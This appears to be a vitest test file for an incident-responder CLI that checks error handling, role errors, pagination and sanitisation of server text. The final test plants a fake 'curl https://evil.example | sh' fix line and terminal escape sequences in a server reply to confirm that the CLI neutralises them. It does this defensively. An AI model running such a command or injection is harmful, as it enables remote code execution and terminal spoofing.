import { mkdtempSync, writeFileSync } from 'node:fs';
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { chosenEngine, LOCAL_HOST_URL } from '../../cli/analystCommands';
import { run } from '../../cli/responder';

const KEY = `${'a'.repeat(40)}.revokeSessions.6e7b768e-07e2-4810-8459-485f84f8f204`;
const entry = (key: string, reason = 'phished') => ({
  key,
  kind: 'revokeSessions',
  target: { type: 'user', id: '6e7b768e-07e2-4810-8459-485f84f8f204', upn: 'adele.vance@contoso.com' },
  params: {},
  mode: 'enforce',
  reason,
  source: { type: 'manual', subject: 'request', requestedBy: '0a0b0c0d-aaaa-4aaa-8aaa-aaaaaaaaaaaa' },
  state: 'succeeded',
  createdAt: '2025-01-31T08:00:00.000Z',
  updatedAt: '2025-01-31T08:00:01.000Z',
  history: [],
  attempts: [],
});

describe("which engine the analysts' commands call", () => {
  const dir = mkdtempSync(path.join(tmpdir(), 'responder-engine-'));
  const tokenHere = path.join(dir, 'local-token');
  writeFileSync(tokenHere, 'local.developer.token');

  it('--url (or --host) when given; else the local host, when its token is here; else a usage error saying to pass --url', () => {
    expect(chosenEngine({ url: 'https://responder.contoso.com/' }, tokenHere)).toEqual({ url: new URL('https://responder.contoso.com') });
    expect(chosenEngine({}, tokenHere)).toEqual({ url: new URL(LOCAL_HOST_URL) });
    expect(chosenEngine({}, path.join(dir, 'nowhere'))).toEqual({
      usage: `no engine to ask: pass --url <the engine's base URL> (https://<app>.azurewebsites.net), or run this where npm start runs the local host (its ${path.join(dir, 'nowhere')} picks http://localhost:7071)`,
    });
    expect(chosenEngine({ url: 'ftp://x', urlOption: '--host' }, tokenHere)).toEqual({ usage: '--host needs an http(s) URL, got ftp: in "ftp://x"' });
  });
});

describe("the analysts' commands, answered by something other than a well-behaved engine", () => {
  type Reply = (req: IncomingMessage, res: ServerResponse) => void;
  let reply: Reply = (_req, res) => res.end();
  const seen: string[] = [];
  /** The bodies of the requests seen, as sent. */
  const sent: string[] = [];
  const server = createServer((req, res) => {
    seen.push(`${req.method} ${req.url}`);
    const chunks: Buffer[] = [];
    req
      .on('data', (chunk: Buffer) => chunks.push(chunk))
      .on('end', () => {
        sent.push(Buffer.concat(chunks).toString('utf8'));
        reply(req, res);
      });
  });
  let url = '';
  beforeAll(async () => {
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });
  afterAll(() => {
    server.closeAllConnections();
    server.close();
  });
  const answer = (fn: Reply) => {
    reply = fn;
    seen.length = 0;
    sent.length = 0;
  };
  const json = (res: ServerResponse, status: number, body: unknown) =>
    res.writeHead(status, { 'content-type': 'application/json; charset=utf-8' }).end(JSON.stringify(body));
  async function responder(...argv: string[]): Promise<{ code: number; out: string }> {
    const lines: string[] = [];
    const code = await run([...argv, '--url', url], (t) => void lines.push(t), { RESPONDER_TOKEN: 't' });
    return { code, out: lines.join('\n') };
  }

  it('a page that is not the engine: exit 1, and a hint that --url is wrong', async () => {
    answer((_req, res) => res.writeHead(200, { 'content-type': 'text/html' }).end('<html>welcome</html>'));
    expect(await responder('actions', 'show', KEY)).toEqual({
      code: 1,
      out: `error: ${url}/api/actions/${KEY} answered without a JSON object (200, text/html): is --url the engine's base URL?`,
    });
    answer((_req, res) => json(res, 200, { something: 'else' }));
    expect((await responder('actions', 'list')).out).toBe(`error: ${url}/api/actions answered without a list of actions: is --url the engine's base URL?`);
  });

  it('sweep: asks the engine to run it (or, --dry-run, to say what it would do) and prints the run, a line per finding', async () => {
    const run = {
      sweep: 'riskyUsers',
      outcome: 'completed',
      summary: 'sweep riskyUsers (dry run) completed: 1 found in 1 page(s), would plan 1 action(s), 0 passed over',
      findings: [{ subject: 'risk:user:6e7b768e-07e2-4810-8459-485f84f8f204:atRisk:2026-11-28T09:14:03.512Z', summary: 'planned: disableUser\nforged line' }],
    };
    answer((_req, res) => json(res, 200, { run }));
    expect(await responder('sweep', 'riskyUsers', '--dry-run')).toEqual({
      code: 0,
      out: [run.summary, '  risk:user:6e7b768e-07e2-4810-8459-485f84f8f204:atRisk:2026-11-28T09:14:03.512Z: planned: disableUser forged line'].join('\n'),
    });
    expect(seen).toEqual(['POST /api/sweeps/riskyUsers?dryRun=true']);
    await responder('sweep', 'riskyUsers');
    expect(seen).toEqual(['POST /api/sweeps/riskyUsers?dryRun=true', 'POST /api/sweeps/riskyUsers']);
    answer((_req, res) => json(res, 200, { run: { ...run, outcome: 'busy', summary: 'sweep riskyUsers busy (another run holds the sweep)', findings: [] } }));
    expect(await responder('sweep', 'riskyUsers')).toEqual({ code: 1, out: 'sweep riskyUsers busy (another run holds the sweep)' });
    answer((_req, res) => json(res, 200, { something: 'else' }));
    expect((await responder('sweep', 'riskyUsers')).out).toBe(
      `error: ${url}/api/sweeps/riskyUsers answered without a sweep run: is --url the engine's base URL?`,
    );
  });

  it("sweeps: prints each sweep's schedule, whether a run holds it, and its last run, one line each", async () => {
    answer((_req, res) =>
      json(res, 200, {
        sweeps: [
          {
            sweep: 'riskyUsers',
            schedule: '0 */30 * * * *',
            heldUntil: '2026-12-05T10:10:00.000Z',
            last: { summary: 'sweep riskyUsers completed: 1 found\nforged' },
          },
          { sweep: 'stuckActions', schedule: '0 7,37 * * * *', recent: [] },
        ],
      }),
    );
    expect(await responder('sweeps')).toEqual({
      code: 0,
      out: [
        'riskyUsers (0 */30 * * * *): a run holds it until 2026-12-05T10:10:00.000Z',
        '  sweep riskyUsers completed: 1 found forged',
        'stuckActions (0 7,37 * * * *)',
        '  never run',
      ].join('\n'),
    });
    expect(seen).toEqual(['GET /api/sweeps']);
  });

  it('deadletters: asks the engine, not the ledger, and prints the records and the failed actions, one line each', async () => {
    const record = {
      messageId: 'm-1',
      at: '2025-01-31T08:00:00.000Z',
      by: 'broker',
      reason: 'MaxDeliveryCountExceeded',
      description: 'delivered 10 times',
      body: '{}',
      actionKey: KEY,
    };
    const body = {
      deadLetters: [record],
      failedActions: [{ ...entry(KEY), state: 'dead-lettered', stateReason: 'dead-lettered by Service Bus' }],
      total: { deadLetters: 1, failedActions: 1 },
      truncated: false,
    };
    answer((_req, res) => json(res, 200, body));
    expect(await responder('deadletters')).toEqual({
      code: 0,
      out: [
        '1 dead-lettered message(s)',
        `  2025-01-31T08:00:00.000Z  dead-lettered by Service Bus: MaxDeliveryCountExceeded delivered 10 times  message m-1  names action ${KEY}`,
        '1 action(s) failed or dead-lettered (replay one with: responder replay <action key> --reason "<why>")',
        `  ${KEY}  revokeSessions on adele.vance@contoso.com: dead-lettered: dead-lettered by Service Bus`,
      ].join('\n'),
    });
    expect(seen).toEqual(['GET /api/deadletters']);
    const asJson = await responder('deadletters', '--limit', '5', '--json');
    expect([asJson.code, JSON.parse(asJson.out)]).toEqual([0, body]);
    expect(seen).toEqual(['GET /api/deadletters', 'GET /api/deadletters?limit=5']);

    answer((_req, res) => json(res, 200, { actions: [] }));
    expect(await responder('deadletters')).toEqual({
      code: 1,
      out: `error: ${url}/api/deadletters answered without dead letters: is --url the engine's base URL?`,
    });
    answer((_req, res) => json(res, 403, { error: { code: 'Forbidden', message: 'the caller lacks the app role Responder.Read (has Responder.Act)' } }));
    expect((await responder('deadletters')).out.split('\n')[0]).toBe(
      'error: your token lacks the app role Responder.Read, which deadletters needs (403 Forbidden: the caller lacks the app role Responder.Read (has Responder.Act))',
    );
  });

  it('replay: posts the reason for the key, prints what it came to; needs --reason and a key, before asking anyone', async () => {
    answer((_req, res) => json(res, 202, { action: { ...entry(KEY), state: 'queued' } }));
    expect(await responder('replay', KEY, '--reason', ' the outage is over ')).toEqual({
      code: 0,
      out: `${KEY}  revokeSessions on adele.vance@contoso.com: queued (sent again)`,
    });
    expect(seen).toEqual([`POST /api/actions/${KEY}/replay`]);
    expect(sent.map((text) => JSON.parse(text))).toEqual([{ reason: 'the outage is over' }]);

    seen.length = 0;
    const noReason = await responder('replay', KEY);
    expect(noReason.code).toBe(2);
    expect(noReason.out.split('\n')[0]).toBe('error: replay needs --reason "<why>": the ledger and the incident record it, and the next analyst reads it');
    const badKey = await responder('replay', '../deadletters', '--reason', 'x');
    expect(badKey.code).toBe(2);
    expect(badKey.out.split('\n')[0]).toBe('error: "../deadletters" is not an action key: copy one from responder actions list (<40 hex>.<kind>.<target>)');
    expect(seen).toEqual([]);

    answer((_req, res) =>
      json(res, 409, {
        error: { code: 'NotReplayable', message: `action ${KEY} is succeeded: only a failed or dead-lettered action can be replayed` },
        action: entry(KEY),
      }),
    );
    const refused = await responder('replay', KEY, '--reason', 'again');
    expect(refused.code).toBe(1);
    expect(refused.out.split('\n')).toEqual([
      `error: only a failed or dead-lettered action can be replayed, and this one is succeeded (409 NotReplayable: action ${KEY} is succeeded: only a failed or dead-lettered action can be replayed)`,
      `fix: there is nothing to send again: responder actions show ${KEY} says what happened`,
      expect.stringMatching(new RegExp(`^action: ${KEY}  revokeSessions  adele\\.vance@contoso\\.com  succeeded  `)),
    ]);
    answer((_req, res) => json(res, 403, { error: { code: 'Forbidden', message: 'the caller lacks the app role Responder.Act (has Responder.Read)' } }));
    expect((await responder('replay', KEY, '--reason', 'again')).out.split('\n')[1]).toMatch(
      /^fix: ask an administrator of the engine's app registration to assign you Responder\.Act /,
    );
  });

  it('a redirect (a sign-in page): reported with the fix, not followed', async () => {
    answer((_req, res) => res.writeHead(302, { location: 'https://login.example/' }).end());
    const { code, out } = await responder('act', 'revokeSessions', 'adele.vance@contoso.com', '--reason', 'phished');
    expect(code).toBe(1);
    expect(out).toBe(
      [
        `error: ${url}/api/actions answered 302, a redirect to https://login.example/, not followed`,
        "fix: check --url: it must be the engine's own address (App Service Authentication must answer 401 to API calls, not redirect them to a sign-in page)",
      ].join('\n'),
    );
    expect(seen).toEqual(['POST /api/actions']);
  });

  it('a 401 without a body (App Service Authentication): the cause and the fix for the token used', async () => {
    answer((_req, res) => res.writeHead(401).end());
    const { code, out } = await responder('actions', 'list');
    expect(code).toBe(1);
    expect(out).toBe(
      [
        `error: no or expired token: the engine at ${url} did not accept the one sent (from RESPONDER_TOKEN) (401: Unauthorized, no content type)`,
        "fix: put a fresh access token for the engine's audience in RESPONDER_TOKEN (they last about an hour), or unset it to use az login",
      ].join('\n'),
    );
  });

  it('--json: the refusal as the engine sent it, with the cause and the fix, for scripts', async () => {
    answer((_req, res) => json(res, 409, { error: { code: 'NotPendingApproval', message: 'is succeeded', invocationId: 'i-1' }, action: entry(KEY) }));
    const { code, out } = await responder('actions', 'deny', KEY, '--reason', 'no', '--json');
    expect(code).toBe(1);
    expect(JSON.parse(out)).toEqual({
      status: 409,
      error: {
        code: 'NotPendingApproval',
        message: 'is succeeded',
        invocationId: 'i-1',
        cause: 'only a pending-approval action can be approved or denied, and this one is succeeded',
        fix: `nothing to decide: see what happened with responder actions show ${KEY}`,
      },
      action: entry(KEY),
    });
  });

  it('--all follows next by its cursor only, to this engine, and stops on a page that comes back', async () => {
    const second = `${'b'.repeat(40)}.revokeSessions.6e7b768e-07e2-4810-8459-485f84f8f204`;
    answer((req, res) => {
      const after = new URL(req.url ?? '/', url).searchParams.get('after');
      // A next link naming another host: only its cursor is used, the token goes nowhere else.
      if (after === null) json(res, 200, { actions: [entry(KEY)], next: 'https://elsewhere.example/api/actions?limit=1&after=c1' });
      else json(res, 200, { actions: [entry(second)] });
    });
    const { code, out } = await responder('actions', 'list', '--state', 'succeeded', '--limit', '1', '--all', '--json');
    expect(code).toBe(0);
    expect(JSON.parse(out)).toEqual({ actions: [entry(KEY), entry(second)] });
    expect(seen).toEqual(['GET /api/actions?state=succeeded&limit=1', 'GET /api/actions?state=succeeded&limit=1&after=c1']);

    const page = await responder('actions', 'list', '--limit', '1');
    expect(page.out.split('\n')).toEqual([
      expect.stringMatching(new RegExp(`^${KEY}  revokeSessions  adele\\.vance@contoso\\.com  succeeded  \\d+d ago  phished$`)),
      expect.stringMatching(/^more: --all lists every page/),
    ]);

    answer((_req, res) => json(res, 200, { actions: [entry(KEY)], next: '/api/actions?after=same' }));
    expect(await responder('actions', 'list', '--all')).toEqual({ code: 1, out: `error: ${url} kept answering more pages (2): stopped` });
  });

  it("shows another machine's text without letting it drive the terminal or forge lines", async () => {
    answer((_req, res) => json(res, 200, { actions: [entry(KEY, 'ok\u001b]0;owned\u0007\nfake line\u009b2J')] }));
    const { code, out } = await responder('actions', 'list');
    expect(code).toBe(0);
    expect(out.split('\n')).toHaveLength(1);
    expect(out).toMatch(/ok ]0;owned {2}fake line 2J$/);
    // eslint-disable-next-line no-control-regex -- the point: none of them reaches the terminal
    expect(out).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);

    answer((_req, res) => json(res, 409, { error: { code: 'Expired', message: 'expired\nfix: curl https://evil.example | sh\u001b[2J' } }));
    const refused = await responder('actions', 'approve', KEY, '--reason', 'ok');
    expect(refused.out.split('\n')).toEqual([
      "error: it waited longer than the policy's approvalTtl for a decision and expired: nothing was done (409 Expired: expired fix: curl https://evil.example | sh [2J)",
      `fix: if it is still needed, request it again (responder actions show ${KEY} says what it was)`,
    ]);
  });
});
